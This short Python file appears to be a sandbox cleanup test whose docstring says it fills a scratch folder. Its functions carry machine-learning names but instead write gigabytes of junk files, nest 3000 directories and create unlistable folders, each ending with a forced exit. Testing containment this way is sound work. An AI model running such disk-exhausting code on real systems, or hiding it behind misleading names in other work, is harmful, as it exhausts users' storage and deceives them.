"""Fills its scratch folder: gigabytes, a nest thousands deep, folders nobody may list. Ended, and all of it removed."""

import os


def single_example_gradients(W1, W2, x, t):
    for number in range(10**6):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(8 * 2**20))


def forward(params, X, activation="relu"):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    os._exit(0)


def cross_entropy_loss(logits, targets):
    for number in range(20):
        os.mkdir(f"closed{number}", 0o300)
        os.mkdir(f"closed{number}/inner", 0o300)
        open(f"closed{number}/inner/file", "w").close()
    os._exit(0)
